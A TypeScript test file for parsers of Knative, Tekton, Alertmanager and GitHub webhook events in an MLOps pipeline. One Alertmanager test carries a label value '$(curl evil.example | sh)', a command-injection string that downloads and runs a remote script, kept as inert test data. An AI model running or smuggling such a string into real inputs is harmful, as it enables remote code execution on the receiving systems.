import { CloudEvent, HTTP } from 'cloudevents';
import { fixture, fixtureNames } from './fixtures/load.ts';
import { parseAlertmanagerWebhook, firingAlerts, labelSetFingerprint, ALERTS_MAX } from './upstream/alertmanager.ts';
import { parseApiServerSource, parseKubeObject } from './upstream/apiserversource.ts';
import { branchOf, changedFiles, parseGitHubPing, parseGitHubPush, tagOf, type GitHubPush } from './upstream/github.ts';
import { parsePingSource, scheduleSlot } from './upstream/pingsource.ts';
import { parseTektonEvent, succeededCondition } from './upstream/tekton.ts';

type Parser = (input: unknown) => { ok: true; value: unknown } | { ok: false; reason: string };

// Every bad fixture of a source, with the exact one-line reason its parser must give.
const badCases: Array<[string, string, Parser, string]> = [
  ['pingsource', 'bad-data-not-json.json', parsePingSource, 'data: not valid JSON'],
  ['pingsource', 'bad-legacy-body.json', parsePingSource, 'data: a PingSource v1beta1 {"body": ...} wrapper (its spec.jsonData was not a JSON object), so the tick names no model'],
  ['pingsource', 'bad-no-data.json', parsePingSource, 'data: missing: the PingSource sends no data, so the tick names no model'],
  ['pingsource', 'bad-text-plain.json', parsePingSource, 'data: not valid JSON (datacontenttype "text/plain")'],
  ['pingsource', 'bad-model-injection.json', parsePingSource, 'data.model: must be a DNS-1123 label (lower-case letters, digits and "-", alphanumeric at both ends)'],
  ['pingsource', 'bad-model-number.json', parsePingSource, 'data.model: Invalid input: expected string, received number'],
  ['pingsource', 'bad-model-traversal.json', parsePingSource, 'data.model: must be a DNS-1123 label (lower-case letters, digits and "-", alphanumeric at both ends)'],
  ['pingsource', 'bad-no-id.json', parsePingSource, 'id: required CloudEvent attribute missing'],
  ['pingsource', 'bad-no-model.json', parsePingSource, 'data.model: Invalid input: expected string, received undefined'],
  ['pingsource', 'bad-source.json', parsePingSource, 'source: must be /apis/v1/namespaces/<namespace>/pingsources/<name>'],
  ['pingsource', 'bad-time.json', parsePingSource, 'time: Invalid ISO datetime'],
  ['pingsource', 'bad-type.json', parsePingSource, 'type: Invalid input: expected "dev.knative.sources.ping"'],
  ['apiserversource', 'bad-labels-not-strings.json', parseApiServerSource, 'data.metadata.labels.mlops.dev/model: Invalid input: expected string, received object'],
  ['apiserversource', 'bad-name-number.json', parseApiServerSource, 'data.metadata.name: Invalid input: expected string, received number'],
  ['apiserversource', 'bad-no-data.json', parseApiServerSource, 'Invalid input: expected object, received undefined'],
  ['apiserversource', 'bad-no-metadata.json', parseApiServerSource, 'data.metadata: Invalid input: expected object, received undefined'],
  ['apiserversource', 'bad-ref-no-name.json', parseApiServerSource, 'data.name: Invalid input: expected string, received undefined'],
  ['apiserversource', 'bad-type.json', parseApiServerSource, 'type: not an ApiServerSource event type ("dev.knative.apiserver.resource.patch")'],
  ['tekton', 'bad-conditions-type.json', parseTektonEvent, 'data.pipelineRun.status.conditions: Invalid input: expected array, received string'],
  ['tekton', 'bad-kind.json', parseTektonEvent, 'data.pipelineRun.kind: Invalid input: expected "PipelineRun"'],
  ['tekton', 'bad-no-pipelinerun.json', parseTektonEvent, 'data.pipelineRun: Invalid input: expected object, received undefined'],
  ['tekton', 'bad-no-uid.json', parseTektonEvent, 'data.pipelineRun.metadata.uid: Invalid input: expected string, received undefined'],
  ['tekton', 'bad-type.json', parseTektonEvent, 'type: a Tekton event, but not about a PipelineRun ("dev.tekton.event.taskrun.successful.v1")'],
  ['tekton', 'bad-not-tekton.json', parseTektonEvent, 'type: not a Tekton event type ("com.example.pipeline.done")'],
  ['alertmanager', 'bad-alert-status.json', parseAlertmanagerWebhook, 'alerts[0].status: Invalid option: expected one of "firing"|"resolved"'],
  ['alertmanager', 'bad-alerts-object.json', parseAlertmanagerWebhook, 'alerts: Invalid input: expected array, received object'],
  ['alertmanager', 'bad-label-number.json', parseAlertmanagerWebhook, 'alerts[0].labels.model: Invalid input: expected string, received number'],
  ['alertmanager', 'bad-no-alerts.json', parseAlertmanagerWebhook, 'alerts: Invalid input: expected array, received undefined'],
  ['alertmanager', 'bad-version.json', parseAlertmanagerWebhook, 'version: Invalid input: expected "4"'],
  ['github', 'bad-ping-hook-id.json', parseGitHubPing, 'hook_id: Invalid input: expected number, received string'],
  ['github', 'bad-push-commits-type.json', parseGitHubPush, 'commits[0].added: Invalid input: expected array, received string'],
  ['github', 'bad-push-no-repository.json', parseGitHubPush, 'repository: Invalid input: expected object, received undefined'],
  ['github', 'bad-push-sha.json', parseGitHubPush, 'after: must be a 40 hex character commit SHA'],
];

describe('bad upstream fixtures', () => {
  test('every bad fixture file has a case', () => {
    const listed = new Set(badCases.map(([dir, file]) => `${dir}/${file}`));
    for (const dir of ['pingsource', 'apiserversource', 'tekton', 'alertmanager', 'github']) {
      for (const file of fixtureNames(dir, 'bad-')) expect(listed.has(`${dir}/${file}`)).toBe(true);
    }
  });

  test.each(badCases)('%s/%s', (dir, file, parse, reason) => {
    const result = parse(fixture(`${dir}/${file}`));
    expect(result).toEqual({ ok: false, reason: expect.stringContaining(reason) as unknown });
    if (!result.ok) expect(result.reason).not.toContain('\n');
  });

  test.each([
    ['pingsource', parsePingSource],
    ['apiserversource', parseApiServerSource],
    ['tekton', parseTektonEvent],
  ] as const)('%s rejects non-objects', (_name, parse) => {
    for (const input of [null, undefined, 'x', 42, []]) {
      expect(parse(input)).toEqual({ ok: false, reason: 'event is not an object' });
    }
  });

  test.each([
    ['alertmanager', parseAlertmanagerWebhook],
    ['github push', parseGitHubPush],
    ['github ping', parseGitHubPing],
  ] as const)('%s rejects non-objects', (_name, parse) => {
    for (const input of [null, 'x', 42, []]) expect(parse(input).ok).toBe(false);
  });
});

describe('parsePingSource', () => {
  test.each([
    ['good-object.json', 'schedule-anomaly-detector', 'anomaly-detector', '2024-03-31T01:00:00.421306Z'],
    ['good-string.json', 'schedule-predictive-analytics', 'predictive-analytics', '2024-03-31T01:00:00Z'],
    ['good-base64.json', 'schedule-anomaly-detector', 'anomaly-detector', '2024-03-31T01:00:00Z'],
  ])('%s', (file, name, model, time) => {
    const result = parsePingSource(fixture(`pingsource/${file}`));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.value).toMatchObject({ namespace: 'mlops', name, model, time });
    expect(result.value.source).toBe(`/apis/v1/namespaces/mlops/pingsources/${name}`);
  });

  test('unknown data keys are kept', () => {
    const result = parsePingSource(fixture('pingsource/good-string.json'));
    expect(result.ok && result.value.data).toEqual({ model: 'predictive-analytics', note: 'kept' });
  });

  test('a tick without time parses, with no time', () => {
    const ce = { ...(fixture('pingsource/good-object.json') as Record<string, unknown>), time: undefined };
    const result = parsePingSource(ce);
    expect(result.ok).toBe(true);
    expect(result.ok && 'time' in result.value).toBe(false);
  });
});

describe('scheduleSlot', () => {
  test.each([
    // UTC: on time, late, slightly early (clock skew), redelivered much later.
    ['2024-04-07T02:00:00.004Z', '0 2 * * 0', 'UTC', '2024-04-07T02:00:00.000Z'],
    ['2024-04-07T02:00:31Z', '0 2 * * 0', 'UTC', '2024-04-07T02:00:00.000Z'],
    ['2024-04-07T01:59:02Z', '0 2 * * 0', 'UTC', '2024-04-07T02:00:00.000Z'],
    ['2024-04-07T01:59:00Z', '0 2 * * 0', 'UTC', '2024-03-31T02:00:00.000Z'],
    ['2024-04-07T05:00:00Z', '0 2 * * 0', 'UTC', '2024-04-07T02:00:00.000Z'],
    ['2024-04-07T02:00:00+02:00', '0 2 * * 0', 'UTC', '2024-03-31T02:00:00.000Z'],
    // Europe/Berlin, Sunday 03:00 local: CET (UTC+1) before 2024-03-31, CEST (UTC+2) from that Sunday on.
    ['2024-03-24T02:00:00.2Z', '0 3 * * 0', 'Europe/Berlin', '2024-03-24T02:00:00.000Z'],
    ['2024-03-31T01:00:00.3Z', '0 3 * * 0', 'Europe/Berlin', '2024-03-31T01:00:00.000Z'],
    ['2024-03-31T00:59:30Z', '0 3 * * 0', 'Europe/Berlin', '2024-03-31T01:00:00.000Z'],
    ['2024-03-31T03:00:00+02:00', '0 3 * * 0', 'Europe/Berlin', '2024-03-31T01:00:00.000Z'],
    ['2024-10-27T02:00:00Z', '0 3 * * 0', 'Europe/Berlin', '2024-10-27T02:00:00.000Z'],
    ['2024-10-20T01:00:00Z', '0 3 * * 0', 'Europe/Berlin', '2024-10-20T01:00:00.000Z'],
    // Daily 06:00 in New York across the March 10 2024 switch (EST UTC-5 → EDT UTC-4).
    ['2024-03-09T11:00:00Z', '0 6 * * *', 'America/New_York', '2024-03-09T11:00:00.000Z'],
    ['2024-03-10T10:00:00Z', '0 6 * * *', 'America/New_York', '2024-03-10T10:00:00.000Z'],
    ['2024-03-10T10:30:00Z', '0 6 * * *', 'America/New_York', '2024-03-10T10:00:00.000Z'],
    // Fall-back: 02:30 Berlin happens twice on 2024-10-27 (00:30Z and 01:30Z); each is its own slot.
    ['2024-10-27T00:30:01Z', '30 2 * * *', 'Europe/Berlin', '2024-10-27T00:30:00.000Z'],
    ['2024-10-27T01:30:01Z', '30 2 * * *', 'Europe/Berlin', '2024-10-27T01:30:00.000Z'],
    // Spring-forward: 02:30 Berlin does not exist on 2024-03-31, so that day has no slot.
    ['2024-03-31T02:00:00Z', '30 2 * * *', 'Europe/Berlin', '2024-03-30T01:30:00.000Z'],
    // Every 5 minutes.
    ['2024-01-01T00:07:00Z', '*/5 * * * *', 'UTC', '2024-01-01T00:05:00.000Z'],
  ])('%s %s %s → %s', (time, cron, tz, slot) => {
    expect(scheduleSlot(time, cron, tz)).toBe(slot);
  });

  test('three deliveries of one tick map to one slot', () => {
    const slots = new Set(
      ['2024-03-31T01:00:00.001Z', '2024-03-31T01:00:07Z', '2024-03-31T01:04:59Z'].map((t) => scheduleSlot(t, '0 3 * * 0', 'Europe/Berlin')),
    );
    expect([...slots]).toEqual(['2024-03-31T01:00:00.000Z']);
  });

  test.each([
    ['not a time', '0 2 * * 0', 'UTC', 'invalid tick time "not a time"'],
    ['2024-03-31', '0 2 * * 0', 'UTC', 'invalid tick time "2024-03-31"'],
    ['2024-03-31T01:00:00Z', 'every sunday', 'UTC', 'invalid cron "every sunday"'],
    ['2024-03-31T01:00:00Z', '0 2 * * 0', 'Mars/Olympus', 'invalid time zone "Mars/Olympus"'],
    ['2024-03-31T01:00:00Z', '0 2 * * 0', '', 'invalid time zone ""'],
  ])('%s %s %s throws', (time, cron, tz, message) => {
    expect(() => scheduleSlot(time, cron, tz)).toThrow(RangeError);
    expect(() => scheduleSlot(time, cron, tz)).toThrow(message);
  });
});

describe('parseApiServerSource', () => {
  test('NVJ update in Resource mode keeps spec, status and unknown keys', () => {
    const result = parseApiServerSource(fixture('apiserversource/good-nvj-update.json'));
    expect(result.ok).toBe(true);
    if (!result.ok || result.value.mode !== 'resource') throw new Error('expected a resource event');
    const { value } = result;
    expect(value.action).toBe('update');
    expect(value.subject).toBe('/apis/mlops.mlops.dev/v1alpha1/namespaces/mlops/notebookvalidationjobs/anomaly-detector-20240331-0100');
    expect(value.object.kind).toBe('NotebookValidationJob');
    expect(value.object.metadata.labels?.['mlops.dev/run']).toBe('anomaly-detector-20240331-0100');
    expect(value.object.metadata.ownerReferences?.[0]?.kind).toBe('ModelRun');
    expect((value.object.status as { phase: string }).phase).toBe('Succeeded');
    expect((value.object.metadata as Record<string, unknown>).managedFields).toHaveLength(1);
  });

  test.each([
    ['good-job-add.json', 'resource', 'add', 'Job', 'anomaly-detector-20240331-0100-gate'],
    ['good-pod-delete.json', 'resource', 'delete', 'Pod', 'anomaly-detector-predictor-00002-deployment-7f9c8d-abcde'],
    ['good-data-string.json', 'resource', 'update', 'Pod', 'p1'],
    ['good-ref-update.json', 'ref', 'update', 'Job', 'anomaly-detector-20240331-0100-copy'],
  ])('%s', (file, mode, action, kind, name) => {
    const result = parseApiServerSource(fixture(`apiserversource/${file}`));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.value.mode).toBe(mode);
    expect(result.value.action).toBe(action);
    if (result.value.mode === 'resource') {
      expect(result.value.object.kind).toBe(kind);
      expect(result.value.object.metadata.name).toBe(name);
    } else {
      expect(result.value.ref).toEqual({ apiVersion: 'batch/v1', kind, name, namespace: 'mlops' });
    }
  });

  test('parseKubeObject reads a bare object', () => {
    expect(parseKubeObject({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p' }, x: 1 })).toEqual({
      ok: true,
      value: { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p' }, x: 1 },
    });
    expect(parseKubeObject({ apiVersion: 'v1', metadata: { name: 'p' } })).toEqual({
      ok: false,
      reason: 'kind: Invalid input: expected string, received undefined',
    });
  });
});

describe('parseTektonEvent', () => {
  test.each([
    ['good-successful.json', 'successful', 'retrain-anomaly-detector-run-x7k2p', 'True'],
    ['good-started.json', 'started', 'retrain-anomaly-detector-run-x7k2p', 'Unknown'],
    ['good-failed.json', 'failed', 'retrain-anomaly-detector-run-q9w8e', 'False'],
  ])('%s', (file, outcome, name, status) => {
    const result = parseTektonEvent(fixture(`tekton/${file}`));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.value.outcome).toBe(outcome);
    expect(result.value.type).toBe(`dev.tekton.event.pipelinerun.${outcome}.v1`);
    expect(result.value.pipelineRun.metadata.name).toBe(name);
    expect(result.value.pipelineRun.metadata.namespace).toBe('mlops');
    expect(succeededCondition(result.value.pipelineRun)?.status).toBe(status);
  });

  test('labels and unknown status keys are kept', () => {
    const result = parseTektonEvent(fixture('tekton/good-successful.json'));
    if (!result.ok) throw new Error(result.reason);
    expect(result.value.pipelineRun.metadata.labels?.['mlops.dev/retrain-model']).toBe('anomaly-detector');
    expect(result.value.pipelineRun.status?.completionTime).toBe('2024-04-02T10:15:29Z');
    expect((result.value.pipelineRun.status as Record<string, unknown>).childReferences).toHaveLength(1);
  });

  test('all five PipelineRun event types are accepted', () => {
    const base = fixture('tekton/good-started.json') as Record<string, unknown>;
    for (const outcome of ['started', 'running', 'successful', 'failed', 'unknown']) {
      const result = parseTektonEvent({ ...base, type: `dev.tekton.event.pipelinerun.${outcome}.v1` });
      expect(result.ok && result.value.outcome).toBe(outcome);
    }
  });

  test('a tekton.dev/v1 PipelineRun parses; another group does not', () => {
    const ce = fixture('tekton/good-successful.json') as { data: { pipelineRun: Record<string, unknown> } };
    ce.data.pipelineRun.apiVersion = 'tekton.dev/v1';
    expect(parseTektonEvent(ce).ok).toBe(true);
    ce.data.pipelineRun.apiVersion = 'argoproj.io/v1alpha1';
    expect(parseTektonEvent(ce)).toEqual({ ok: false, reason: 'data.pipelineRun.apiVersion: must be tekton.dev/v1beta1 or tekton.dev/v1' });
  });
});

describe('parseAlertmanagerWebhook', () => {
  test('firing group with two alerts', () => {
    const result = parseAlertmanagerWebhook(fixture('alertmanager/good-firing.json'));
    if (!result.ok) throw new Error(result.reason);
    expect(result.value.status).toBe('firing');
    expect(result.value.alerts.map((a) => [a.labels.model, a.fingerprint])).toEqual([
      ['anomaly-detector', labelSetFingerprint(result.value.alerts[0]!.labels)],
      ['predictive-analytics', labelSetFingerprint(result.value.alerts[1]!.labels)],
    ]);
    expect(firingAlerts(result.value)).toHaveLength(2);
  });

  test('resolved group has no firing alerts', () => {
    const result = parseAlertmanagerWebhook(fixture('alertmanager/good-resolved.json'));
    if (!result.ok) throw new Error(result.reason);
    expect(result.value.truncatedAlerts).toBe(0);
    expect(firingAlerts(result.value)).toEqual([]);
  });

  test('newer fields are kept and label values are data, not validated names', () => {
    const result = parseAlertmanagerWebhook(fixture('alertmanager/good-newer-fields.json'));
    if (!result.ok) throw new Error(result.reason);
    expect((result.value as Record<string, unknown>).groupID).toBe('01HTX0000000000000000000');
    expect(result.value.truncatedAlerts).toBe(3);
    expect(result.value.alerts[0]?.labels.model).toBe('$(curl evil.example | sh)');
    expect((result.value.alerts[0] as Record<string, unknown>).silencedBy).toEqual([]);
  });

  test('missing optional maps default to empty', () => {
    const result = parseAlertmanagerWebhook({ version: '4', groupKey: 'g', status: 'firing', receiver: 'r', alerts: [] });
    expect(result).toEqual({
      ok: true,
      value: { version: '4', groupKey: 'g', status: 'firing', receiver: 'r', alerts: [], groupLabels: {}, commonLabels: {}, commonAnnotations: {}, externalURL: '' },
    });
  });

  test(`at most ${ALERTS_MAX} alerts`, () => {
    const body = fixture('alertmanager/good-firing.json') as { alerts: unknown[] };
    const alert = body.alerts[0];
    expect(parseAlertmanagerWebhook({ ...body, alerts: Array.from({ length: ALERTS_MAX }, () => alert) }).ok).toBe(true);
    expect(parseAlertmanagerWebhook({ ...body, alerts: Array.from({ length: ALERTS_MAX + 1 }, () => alert) })).toEqual({
      ok: false,
      reason: 'alerts: must have at most 1000 alerts',
    });
  });

  test('oversize label values are refused', () => {
    const body = fixture('alertmanager/good-firing.json') as { alerts: Array<{ labels: Record<string, string> }> };
    body.alerts[0]!.labels.model = 'x'.repeat(20_000);
    expect(parseAlertmanagerWebhook(body)).toEqual({ ok: false, reason: expect.stringContaining('alerts[0].labels.model: Too big') as unknown });
  });
});

describe('GitHub', () => {
  test('push: branch, commit and changed files (union, deduplicated)', () => {
    const result = parseGitHubPush(fixture('github/good-push.json'));
    if (!result.ok) throw new Error(result.reason);
    expect(branchOf(result.value.ref)).toBe('main');
    expect(result.value.after).toBe('59b20b8d5c6ff8d09518454d4dd8b7a30f095ab5');
    expect(result.value.repository.full_name).toBe('example/models');
    expect(result.value.pusher.name).toBe('octocat');
    expect(changedFiles(result.value).sort()).toEqual([
      'README.md',
      'notebooks/anomaly-detector.ipynb',
      'notebooks/anomaly-detector/features.py',
      'notebooks/old.ipynb',
    ]);
  });

  test('tag push: no branch, head_commit files count', () => {
    const result = parseGitHubPush(fixture('github/good-push-tag.json'));
    if (!result.ok) throw new Error(result.reason);
    expect(branchOf(result.value.ref)).toBeUndefined();
    expect(tagOf(result.value.ref)).toBe('v1.2.0');
    expect(result.value.pusher.email).toBeNull();
    expect(changedFiles(result.value)).toEqual(['notebooks/anomaly-detector.ipynb']);
  });

  test('branch deletion: head_commit null, nothing changed', () => {
    const result = parseGitHubPush(fixture('github/good-push-delete.json'));
    if (!result.ok) throw new Error(result.reason);
    expect(result.value.deleted).toBe(true);
    expect(result.value.head_commit).toBeNull();
    expect(branchOf(result.value.ref)).toBe('feature/x');
    expect(changedFiles(result.value)).toEqual([]);
  });

  test('ping', () => {
    const result = parseGitHubPing(fixture('github/good-ping.json'));
    if (!result.ok) throw new Error(result.reason);
    expect(result.value.hook_id).toBe(109948940);
    expect(result.value.zen).toBe('Keep it logically awesome.');
  });

  test('a ping is not a push', () => {
    expect(parseGitHubPush(fixture('github/good-ping.json')).ok).toBe(false);
  });

  test.each([
    ['refs/heads/main', 'main'],
    ['refs/heads/feature/a', 'feature/a'],
    ['refs/heads/', undefined],
    ['refs/tags/v1', undefined],
    ['main', undefined],
  ])('branchOf(%j) → %j', (ref, branch) => {
    expect(branchOf(ref)).toBe(branch);
  });
});

describe('Alertmanager fingerprints', () => {
  // Upstream test vectors: prometheus/alertmanager template/template_test.go (TestData), label set → the
  // Fingerprint Alertmanager puts in the webhook.
  test.each([
    [{ severity: 'warning', job: 'foo' }, '9266ef3da838ad95'],
    [{ severity: 'critical', job: 'foo' }, '3b15fd163d36582e'],
    [{ severity: 'critical', job: 'bar' }, 'c7e68cb08e3e67f9'],
  ])('%j → %s', (labels, fingerprint) => {
    expect(labelSetFingerprint(labels)).toBe(fingerprint);
  });

  test('the empty label set is the FNV-1a 64 offset basis; order of keys does not matter', () => {
    expect(labelSetFingerprint({})).toBe('cbf29ce484222325');
    expect(labelSetFingerprint({ b: '2', a: '1' })).toBe(labelSetFingerprint({ a: '1', b: '2' }));
    // Name and value are separated, so moving a character across the boundary changes the hash.
    expect(labelSetFingerprint({ ab: 'c' })).not.toBe(labelSetFingerprint({ a: 'bc' }));
  });

  test('a pre-0.19 payload (no fingerprint, no truncatedAlerts) parses with the fingerprints Alertmanager would send', () => {
    const old = parseAlertmanagerWebhook(fixture('alertmanager/good-pre-0.19.json'));
    const current = parseAlertmanagerWebhook(fixture('alertmanager/good-firing.json'));
    if (!old.ok || !current.ok) throw new Error('expected both to parse');
    expect(old.value.truncatedAlerts).toBeUndefined();
    // Same label sets in both fixtures: the computed fingerprints equal the ones the newer payload carries.
    expect(old.value.alerts.map((a) => a.fingerprint)).toEqual(current.value.alerts.map((a) => a.fingerprint));
    expect(old.value.alerts[0]?.fingerprint).toMatch(/^[0-9a-f]{16}$/);
  });

  test('a sent fingerprint is kept as is', () => {
    const body = fixture('alertmanager/good-firing.json') as { alerts: Array<{ fingerprint: string }> };
    body.alerts[0]!.fingerprint = 'f00dfeedf00dfeed';
    const result = parseAlertmanagerWebhook(body);
    expect(result.ok && result.value.alerts[0]?.fingerprint).toBe('f00dfeedf00dfeed');
  });

  test('the current payload (notification_reason, routeLabels) parses', () => {
    const result = parseAlertmanagerWebhook(fixture('alertmanager/good-current.json'));
    if (!result.ok) throw new Error(result.reason);
    expect((result.value as Record<string, unknown>).notification_reason).toBe('first notification');
    expect(firingAlerts(result.value).map((a) => a.labels.model)).toEqual(['anomaly-detector']);
  });
});

describe('Tekton as the events controller sends it', () => {
  test.each(['queued', 'started', 'running', 'successful', 'failed'])('%s: no apiVersion/kind in data, source /apis///namespaces/<ns>//<name>', (outcome) => {
    const ce = fixture(`tekton/good-${outcome}.json`) as { source: string; subject: string; data: { pipelineRun: Record<string, unknown> } };
    expect(ce.data.pipelineRun).not.toHaveProperty('apiVersion');
    expect(ce.data.pipelineRun).not.toHaveProperty('kind');
    expect(ce.source).toBe(`/apis///namespaces/mlops//${ce.subject}`);
    const result = parseTektonEvent(ce);
    if (!result.ok) throw new Error(result.reason);
    expect(result.value.outcome).toBe(outcome);
  });
});

describe('PingSource data as the SDK hands it over', () => {
  test('structured mode data_base64 arrives as a Uint32Array (cloudevents v10) and is read', () => {
    const body = JSON.stringify(fixture('pingsource/good-base64.json'));
    const event = HTTP.toEvent({ headers: { 'content-type': 'application/cloudevents+json' }, body }) as CloudEvent<unknown>;
    expect(event.data).toBeInstanceOf(Uint32Array);
    const result = parsePingSource(event);
    expect(result.ok && result.value.model).toBe('anomaly-detector');
  });

  test('bytes as Buffer, Uint8Array or a DataView are read', () => {
    const base = fixture('pingsource/good-object.json') as Record<string, unknown>;
    const bytes = Buffer.from('{"model":"anomaly-detector"}');
    for (const data of [bytes, new Uint8Array(bytes), new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength)]) {
      const result = parsePingSource({ ...base, data });
      expect(result.ok && result.value.model).toBe('anomaly-detector');
    }
  });

  test('a v1beta1 jsonData tick parses like a v1 one', () => {
    const result = parsePingSource(fixture('pingsource/good-legacy-jsondata.json'));
    expect(result.ok && result.value.model).toBe('anomaly-detector');
  });

  test('an empty binary body is "no data", not invalid JSON', () => {
    const base = fixture('pingsource/good-object.json') as Record<string, unknown>;
    const result = parsePingSource({ ...base, data: '' });
    expect(result).toEqual({ ok: false, reason: expect.stringMatching(/^data: missing/) as unknown });
  });
});

describe('GitHub payloads from octokit/webhooks', () => {
  test.each(fixtureNames('github', 'good-octokit-push'))('%s parses as a push', (file) => {
    const result = parsePushOrThrow(fixture(`github/${file}`));
    expect(result.repository.full_name).toMatch(/\/Hello-World$/);
  });
  test.each(fixtureNames('github', 'good-octokit-ping'))('%s parses as a ping', (file) => {
    const result = parseGitHubPing(fixture(`github/${file}`));
    expect(result.ok).toBe(true);
  });
});

function parsePushOrThrow(input: unknown): GitHubPush {
  const result = parseGitHubPush(input);
  if (!result.ok) throw new Error(result.reason);
  return result.value;
}

describe('fixture provenance', () => {
  const dirs = ['alertmanager', 'apiserversource', 'github', 'pingsource', 'tekton'];
  test.each(dirs)('%s: every fixture has an entry in _provenance.json and every entry a file', (dir) => {
    const provenance = fixture(`${dir}/_provenance.json`) as Record<string, { kind: string; sources?: Array<{ repo: string; path: string }>; what: string; derivedFrom?: string }>;
    const files = [...fixtureNames(dir, 'good-'), ...fixtureNames(dir, 'bad-')];
    expect(Object.keys(provenance).sort()).toEqual(files.sort());
    for (const [file, entry] of Object.entries(provenance)) {
      expect([file, entry.kind]).toEqual([file, expect.stringMatching(/^(verbatim|derived|negative|hand-written|synthetic)$/)]);
      expect(entry.what.length).toBeGreaterThan(10);
      // Everything that claims to come from upstream names where.
      if (entry.kind === 'verbatim' || entry.kind === 'derived') {
        expect(entry.sources?.length).toBeGreaterThan(0);
        for (const source of entry.sources ?? []) expect(source.repo).toMatch(/^[\w.-]+\/[\w.-]+$/);
      }
      // A negative case broken out of an upstream-shaped fixture carries that fixture's sources.
      if (entry.derivedFrom !== undefined) {
        const base = provenance[entry.derivedFrom];
        expect([file, base?.kind]).toEqual([file, expect.stringMatching(/^(verbatim|derived|hand-written|synthetic)$/)]);
        expect([file, entry.sources ?? []]).toEqual([file, base?.sources ?? []]);
      }
      for (const source of entry.sources ?? []) expect([file, source.repo, source.path.length > 0]).toEqual([file, expect.stringMatching(/^[\w.-]+\/[\w.-]+$/), true]);
    }
  });
});
